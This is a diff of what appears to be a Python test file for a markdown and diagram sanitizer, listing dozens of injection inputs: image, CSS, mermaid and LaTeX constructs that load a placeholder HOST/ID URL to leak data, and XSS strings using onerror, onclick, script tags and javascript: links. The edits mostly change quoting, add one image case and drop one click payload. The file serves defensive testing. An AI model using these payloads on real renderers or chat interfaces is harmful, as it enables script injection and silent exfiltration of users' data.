@@ -39,6 +39,7 @@ IMAGES = [
     "![a](http&colon;//HOST/ID)",
     "![a](ht&#116;p://HOST/ID)",
     "![a](http://user:pass@HOST/ID)",
+    f"!![a]({U}) !!![b]({U}) !![[c](x)]({U})",
     f"!\\[a]({U}) !&#91;a]({U}) \\\\![a]({U})",
     f"`a` ![a]({U}) `b` `` ` ![b]({U})",
     f"\\`![a]({U})\\`",
@@ -82,7 +83,7 @@ TAGS = [
     f"<style>body{{background:url({U})}}</style>",
     f"<style>@font-face{{font-family:x;src:url({U})}} *{{font-family:x}}</style>",
     f'<div style="background:url({U})">x</div>',
-    f'<p style="background-image:image-set(\'{U}\' 1x)">x</p>',
+    f"<p style=\"background-image:image-set('{U}' 1x)\">x</p>",
     f'<link rel=stylesheet href="{U}">',
     f'<link rel=prefetch href="{U}"><link rel=preload as=image href="{U}">',
     f'<link rel=dns-prefetch href="{U}"><link rel=preconnect href="{U}">',
@@ -138,8 +139,7 @@ _DIAGRAMS = [
     "flowchart LR\nA --> B\nlinkStyle 0 marker-end:url(http://HOST/ID)",
     "flowchart LR\nA --> B\nstyle A mask:\\75rl(http://HOST/ID)",
     'flowchart LR\nA --> B\nclick A "http://HOST/ID" _self',
-    'flowchart LR\nA --> B\nclick A href "javascript:alert(1)"',
-    "%%{init: {\"themeCSS\": \"*{background:url('http://HOST/ID')}\"}}%%\nflowchart LR\nA --> B",
+    '%%{init: {"themeCSS": "*{background:url(\'http://HOST/ID\')}"}}%%\nflowchart LR\nA --> B',
     "%%{init: {'theme':'base','themeVariables': {'primaryColor': 'url(http://HOST/ID)', "
     "'lineColor': 'red;background:url(http://HOST/ID)'}}}%%\nflowchart LR\nA --> B",
     '%%{init: {"securityLevel":"loose","htmlLabels":true,"flowchart":{"htmlLabels":true}}}%%\n'
@@ -152,11 +152,11 @@ _DIAGRAMS = [
     'sequenceDiagram\nparticipant A\nlinks A: {"x": "http://HOST/ID"}\n'
     'properties A: {"icon": "http://HOST/ID"}\nA->>B: x',
     "sequenceDiagram\nbox rgb(0,0,0);background:url(http://HOST/ID) x\nparticipant A\nend\nA->>B: x",
-    "classDiagram\nclass A\nlink A \"http://HOST/ID\"\nclass B[\"<img src='http://HOST/ID'>\"]",
+    'classDiagram\nclass A\nlink A "http://HOST/ID"\nclass B["<img src=\'http://HOST/ID\'>"]',
     "stateDiagram-v2\nA --> B: <img src=http://HOST/ID>\nclassDef x fill:url(http://HOST/ID)\nclass A x",
     'mindmap\n  root(("<img src=http://HOST/ID>"))\n    a\n    ::icon(fa fa-book)',
     'kanban\n  a[x]\n    b["<img src=http://HOST/ID>"]@{ icon: "http://HOST/ID" }',
-    "C4Context\nPerson(a, \"x\", \"<img src='http://HOST/ID'>\", $sprite=\"http://HOST/ID\", "
+    'C4Context\nPerson(a, "x", "<img src=\'http://HOST/ID\'>", $sprite="http://HOST/ID", '
     '$link="http://HOST/ID")\nUpdateElementStyle(a, $bgColor="url(http://HOST/ID)")',
     "architecture-beta\nservice a(http://HOST/ID)[x]\nservice b(logos:aws)[y]",
     'block-beta\na["<img src=http://HOST/ID>"]\nstyle a fill:url(http://HOST/ID)',
@@ -165,8 +165,8 @@ _DIAGRAMS = [
     'pie title <img src=http://HOST/ID>\n"<img src=http://HOST/ID>" : 5',
     'erDiagram\nA["<img src=http://HOST/ID>"] ||--o{ B : "<img src=http://HOST/ID>"',
     "journey\ntitle <img src=http://HOST/ID>\nsection x\n<img src=http://HOST/ID>: 5: me",
-    'quadrantChart\ntitle <img src=http://HOST/ID>\na: [0.1, 0.2] color: url(http://HOST/ID)',
-    "flowchart LR\nA[\"$$\\includegraphics{http://HOST/ID}$$\"]",
+    "quadrantChart\ntitle <img src=http://HOST/ID>\na: [0.1, 0.2] color: url(http://HOST/ID)",
+    'flowchart LR\nA["$$\\includegraphics{http://HOST/ID}$$"]',
 ]
 _FENCES = [
     "mermaid",
@@ -195,8 +195,8 @@ CODE = [
     f"```latex\n\\includegraphics{{{U}}}\n```",
     f"```python {U}\nprint()\n```",
     f"```{U}\nx\n```",
-    f"```\"><img/src={U}>\nx\n```",
-    f"```vega-lite\n{{\"data\": {{\"url\": \"{U}\"}}}}\n```",
+    f'```"><img/src={U}>\nx\n```',
+    f'```vega-lite\n{{"data": {{"url": "{U}"}}}}\n```',
     f"`<img src={U}>`",
 ]
 LEAKS = [*IMAGES, *TAGS, *FORMULAS, *DIAGRAMS, *CODE]
@@ -320,20 +320,20 @@ _LINKS = [
     "<{}>",
 ]
 _REST = [
-    "![x](x\"onerror=\"RUN)",
+    '![x](x"onerror="RUN)',
     "![x](javascript:RUN)",
-    "![x\" onerror=\"RUN](x)",
+    '![x" onerror="RUN](x)',
     "[x](x 'a\" onmouseover=\"RUN')",
-    "[x](https://example.com\" onclick=\"RUN)",
+    '[x](https://example.com" onclick="RUN)',
     "[<script>RUN</script>](https://example.com)",
-    "[a](<x> \"<script>RUN</script>\")",
-    "https://example.com/\"onmouseover=\"RUN",
-    "www.example.com/\"><script>RUN</script>",
-    "```\"><script>RUN</script>\nx\n```",
+    '[a](<x> "<script>RUN</script>")',
+    'https://example.com/"onmouseover="RUN',
+    'www.example.com/"><script>RUN</script>',
+    '```"><script>RUN</script>\nx\n```',
     "```html\n</code></pre><script>RUN</script>\n```",
-    "```mermaid\nflowchart LR\nA[\"<script>RUN</script>\"] --> B[\"<img src=x onerror=RUN>\"]\n```",
-    "```mermaid\nflowchart LR\nA --> B\nclick A call alert(1)\nclick B \"javascript:RUN\"\n```",
-    "```mermaid\n%%{init: {\"securityLevel\": \"loose\"}}%%\nflowchart LR\nA[\"<img src=x onerror=RUN>\"]\n```",
+    '```mermaid\nflowchart LR\nA["<script>RUN</script>"] --> B["<img src=x onerror=RUN>"]\n```',
+    '```mermaid\nflowchart LR\nA --> B\nclick A call alert(1)\nclick B "javascript:RUN"\n```',
+    '```mermaid\n%%{init: {"securityLevel": "loose"}}%%\nflowchart LR\nA["<img src=x onerror=RUN>"]\n```',
     "```mermaid\n</style><script>RUN</script>\n```",
     "$\\href{javascript:RUN}{x}$",
     "$\\url{javascript:RUN}$",
